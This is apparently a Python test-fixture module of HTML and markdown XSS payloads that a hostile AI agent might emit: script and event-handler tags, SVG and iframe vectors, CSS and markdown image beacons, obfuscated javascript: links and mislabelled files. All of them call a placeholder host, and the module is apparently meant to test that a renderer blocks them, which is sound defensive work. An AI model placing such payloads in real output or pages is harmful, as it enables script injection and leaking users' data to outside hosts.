"""What a hostile agent may write, or put into a file. `HIT` stands for an address that nobody must ask.

Each must be harmless in the console, and is seen where nothing defends a page (`naive.py`), so that none is a dud.
"""

from collections.abc import Iterator

HIT = "http://hit.invalid/NUMBER"
ASK = f"new Image().src='{HIT}'"

ACT = f"void({ASK})"
"""The same where what comes of it would be shown as a page."""

RAW = [
    f"<script>{ASK}</script>",
    f"<script src={HIT}></script>",
    f"<ScRiPt>{ASK}</sCrIpT>",
    f"<img src={HIT}>",
    f'<img src=x onerror="{ASK}">',
    f'<IMG SRC=x OnErRoR="{ASK}">',
    f'<div><img/src="x"/onerror="{ASK}"></div>',
    f"<img src='x' onerror = '{ASK.replace(chr(39), '&#39;')}'>",
    f'<svg onload="{ASK}"></svg>',
    f"<svg><script>{ASK}</script></svg>",
    f"<svg><image href={HIT} /></svg>",
    f"<svg><image xlink:href={HIT} /></svg>",
    f'<svg><animate onbegin="{ASK}" attributeName=x dur=1s></svg>',
    f'<svg><set onbegin="{ASK}" attributeName=x></svg>',
    f"<math><mtext><img src={HIT}></mtext></math>",
    f"<iframe src={HIT}></iframe>",
    f'<iframe srcdoc="<img src={HIT}>"></iframe>',
    f'<iframe src="javascript:{ACT}"></iframe>',
    f'<iframe src="data:text/html,<img src={HIT}>"></iframe>',
    f"<object data={HIT}></object>",
    f"<embed src={HIT}>",
    f"<video src={HIT}></video>",
    f"<video poster={HIT}></video>",
    f"<video><source src={HIT}></video>",
    f'<video><source onerror="{ASK}"></video>',
    f"<audio src={HIT}></audio>",
    f'<audio src=x onerror="{ASK}"></audio>',
    f"<link rel=stylesheet href={HIT}>",
    f"<link rel=icon href=x><link rel=stylesheet href={HIT}>",
    f"<style>@import '{HIT}';</style>",
    f"<style>html{{background:url({HIT})}}</style>",
    f'<p style="background:url({HIT})">x</p>',
    f'<p style="list-style:url({HIT});display:list-item">x</p>',
    f"<div style='content:url({HIT})'>x</div>",
    f'<body onload="{ASK}">',
    f"<body background={HIT}>",
    f"<table background={HIT}><tr><td>x</table>",
    f"<table><tr><td background={HIT}>x</table>",
    f"<input type=image src={HIT}>",
    f'<input autofocus onfocus="{ASK}">',
    f'<select autofocus onfocus="{ASK}"></select>',
    f'<textarea autofocus onfocus="{ASK}"></textarea>',
    f'<button autofocus onfocus="{ASK}">x</button>',
    f'<a autofocus tabindex=1 href=# onfocus="{ASK}">x</a>',
    f'<details open ontoggle="{ASK}">x</details>',
    f"<style>@font-face{{font-family:f;src:url({HIT})}}p{{font-family:f}}</style><p>x</p>",
    f'<meta http-equiv=refresh content="0;url={HIT}">',
    f"<base href={HIT}/><img src=x>",
    f"<form id=f action={HIT}></form><script>f.submit()</script>",
    f"<picture><source srcset={HIT}><img src=x></picture>",
    f'<img srcset="{HIT} 1x">',
    f'<div><img src=`x` alt="`"onerror="{ASK}" src=y></div>',
    f"<template><p>x</template><img src={HIT}>",
    f'<noscript><p title="</noscript><img src={HIT}>">',
    f"<!--><img src={HIT}>-->",
    f"<![CDATA[><img src={HIT}>]]>",
    f"<x onmouseover=1 style='animation:a 1s' onanimationstart=\"{ASK}\">x</x><style>@keyframes a{{}}</style>",
    f"<p><b><i></p><img src={HIT}></i></b>",
    f'<title><p title="</title><img src={HIT}>">',
    f"<textarea></textarea><img src={HIT}>",
    f"text <img src={HIT}> in a line",
    f"- a list\n- <img src={HIT}>",
    f"> said\n> <img src={HIT}>",
    f"| a |\n|---|\n| <img src={HIT}> |",
    f"# <img src={HIT}>",
    f"**<img src={HIT}>**",
    f"&lt;p&gt; <img src={HIT}>",
]
"""HTML among markdown."""

PICTURES = [
    f"![p]({HIT})",
    f"![p](<{HIT}>)",
    f'![p]({HIT} "title")',
    f"![p][r]\n\n[r]: {HIT}",
    f"![r]\n\n[r]: {HIT}",
    f"[![p]({HIT})](https://example.com)",
    "![p](//hit.invalid/NUMBER)",
    f"- [x] ![p]({HIT})",
    f"> ![p]({HIT})",
    f"| a |\n|---|\n| ![p]({HIT}) |",
    f"![p]({HIT}?q=a&b=c)",
    f"![p]({HIT}#x)",
    f"![a ![p]({HIT})]({HIT})",
]
"""Pictures of another site: the way in which what an agent knows leaves the page."""

LINKS = [
    f"[x](javascript:{ACT.replace('(', '%28').replace(')', '%29').replace(' ', '%20')})",
    f"[x](JaVaScRiPt:{ACT.replace('(', '%28').replace(')', '%29').replace(' ', '%20')})",
    f"[x](<javascript:{ACT}>)",
    f'<a href="java&Tab;script:{ACT}">x</a>',
    f"[x](<&#106;avascript:{ACT}>)",
    f"[x](<&#x6A;avascript:{ACT}>)",
    f"[x](<javascript&colon;{ACT}>)",
    f"[x](<javascript:%0a{ACT}>)",
    f"[x][r]\n\n[r]: <javascript:{ACT}>",
    f'<a href="javascript:{ACT}">x</a>',
    f'<a href="java\tscript:{ACT}">x</a>',
    f'<a href="\x01javascript:{ACT}">x</a>',
]
"""Links that act when they are followed."""

FILES = {
    "page.html": f"<!doctype html><script>{ASK}</script>",
    "pixel.html": f"<img src={HIT}>",
    "page.htm": f'<body onload="{ASK}">',
    "page.xhtml": f"<html xmlns='http://www.w3.org/1999/xhtml'><script>{ASK}</script></html>",
    "drawn.svg": f"<svg xmlns='http://www.w3.org/2000/svg'><script>{ASK}</script></svg>",
    "loads.svg": f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{ASK}\"/>",
    "image.svg": f"<svg xmlns='http://www.w3.org/2000/svg'><image href='{HIT}' width='9' height='9'/></svg>",
    "foreign.svg": (
        "<svg xmlns='http://www.w3.org/2000/svg'><foreignObject width='9' height='9'>"
        f"<img xmlns='http://www.w3.org/1999/xhtml' src='{HIT}'/></foreignObject></svg>"
    ),
    "styled.svg": f"<svg xmlns='http://www.w3.org/2000/svg'><style>@import url({HIT});</style></svg>",
    "sheet.xml": f"<?xml-stylesheet type='text/css' href='{HIT}'?><a/>",
    "picture.png": f"<script>{ASK}</script>",
    "notes.md": f"# Notes\n\n<img src={HIT}>\n\n![p]({HIT})",
    "table.csv": f'name,value\n<img src={HIT}>,"=cmd"\n',
    "data.json": f'{{"<img src={HIT}>": "<script>{ASK}</script>"}}',
    "text.txt": f"<script>{ASK}</script>",
    "paper.pdf": f"<script>{ASK}</script>",
}
"""Files by their names: what is inside is not always what the name says."""


def markdown(hit: str) -> Iterator[tuple[int, str]]:
    """Give every text with its number; `hit` is the address that stands in them."""
    for number, text in enumerate([*RAW, *PICTURES, *LINKS]):
        yield number, placed(text, number, hit)


def placed(text: str, number: int, hit: str) -> str:
    """Put the address and a number into a text."""
    host = hit.partition("://")[2]
    return text.replace(HIT, f"{hit}/{number}").replace("//hit.invalid/NUMBER", f"//{host}/{number}")
